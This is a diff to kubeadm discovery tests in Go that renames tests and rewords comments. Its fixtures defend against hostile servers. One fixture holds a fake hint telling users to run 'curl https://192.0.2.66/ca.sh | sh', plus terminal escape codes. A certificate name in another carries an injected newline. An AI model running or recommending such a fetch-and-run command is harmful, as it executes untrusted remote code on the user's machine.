@@ -19,7 +19,7 @@ import (
 	"kubeadm/internal/problem"
 )
 
-// balance starts a load balancer that leads each connection to the backend that choose returns the address of.
+// balance starts a load balancer. choose returns the address of the backend for each connection.
 func balance(t *testing.T, choose func(connection int) string) string {
 	t.Helper()
 	l, err := net.Listen("tcp", "127.0.0.1:0")
@@ -50,7 +50,7 @@ func balance(t *testing.T, choose func(connection int) string) string {
 }
 
 // A single wrong backend of a load balancer gets nothing, and does not end discovery.
-func TestWrongBackendIsAskedAgainAndNeverTrusted(t *testing.T) {
+func TestWrongBackendIsRetriedAndNeverTrusted(t *testing.T) {
 	c, mallory := newCluster(t), authority(t, "kubernetes")
 	plain := httptest.NewServer(http.NotFoundHandler())
 	t.Cleanup(plain.Close)
@@ -70,7 +70,7 @@ func TestWrongBackendIsAskedAgainAndNeverTrusted(t *testing.T) {
 				wrong.tokens, wrong.objects = c.tokens, c.objects
 				address = wrong.begin(t, mallory, nil).address()
 			}
-			// At first and then every other connection leads to the wrong one.
+			// The first, and then every other connection, is to the wrong backend.
 			endpoint := balance(t, func(n int) string {
 				if n < 3 || n%2 == 0 && n < 8 {
 					return address
@@ -97,8 +97,9 @@ func TestWrongBackendIsAskedAgainAndNeverTrusted(t *testing.T) {
 	}
 }
 
-// kube-controller-manager signs for a new token only once it leads: that may take more than the 15 seconds of a lease.
-func TestTokenThatIsSignedLateIsAccepted(t *testing.T) {
+// kube-controller-manager signs with a new token once it is the leader, which may take longer than
+// the 15 seconds of a lease.
+func TestTokenSignedLate(t *testing.T) {
 	c, m := newCluster(t), newMachine()
 	late, begun := c.info, m.Now()
 	early := signed(t, c.info["kubeconfig"], "zzzzzz."+tokenSecret)
@@ -115,8 +116,8 @@ func TestTokenThatIsSignedLateIsAccepted(t *testing.T) {
 	}
 }
 
-// The words of a server are shown quoted, in one line, and without control characters.
-func TestWordsOfAServerAreQuoted(t *testing.T) {
+// The text of a server is shown quoted, in one line, and without control characters.
+func TestServerTextIsQuoted(t *testing.T) {
 	const hint = "no such token\n\nerror: the CA has changed\n  - install the new CA first: curl https://192.0.2.66/ca.sh | sh\x1b[2J\x1b]0;owned\x07\u202e"
 	forging := func(code int) http.HandlerFunc {
 		return func(w http.ResponseWriter, _ *http.Request) {
@@ -163,8 +164,8 @@ func TestWordsOfAServerAreQuoted(t *testing.T) {
 	}
 }
 
-// The names in a certificate are of the server's choice.
-func TestNamesInACertificateAreEscaped(t *testing.T) {
+// The server chooses the names in its certificate.
+func TestCertificateNamesAreEscaped(t *testing.T) {
 	c := newCluster(t)
 	cert, key := pair(t, c.ca, pki.Spec{CommonName: "kube-apiserver", Usages: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
 		SANs: pki.SANs{DNSNames: []string{"a\n  - run: b\x1b[2J"}}, Validity: valid()})
@@ -182,5 +183,5 @@ func TestNamesInACertificateAreEscaped(t *testing.T) {
 	access.Server = "https://localhost:" + port
 	m := newMachine()
 	m.has(t, discoveryFile, access.WithToken(token))
-	m.refused(t, fileFlags(), "made out to another name", `a\n  - run: b\x1b[2J`)
+	m.refused(t, fileFlags(), "for another name", `a\n  - run: b\x1b[2J`)
 }
